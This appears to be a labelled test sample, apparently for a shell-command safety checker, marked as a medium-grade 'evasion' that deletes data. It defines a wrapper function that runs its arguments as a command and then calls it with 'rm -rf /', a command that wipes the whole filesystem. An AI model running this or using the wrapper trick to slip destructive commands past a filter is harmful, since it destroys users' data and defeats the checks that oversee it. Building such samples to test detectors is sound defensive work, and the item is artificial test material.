# evasion: a function runs its arguments as a command
# grade: medium; does: delete
f() { "$1" "${@:2}"; }
f rm -rf /
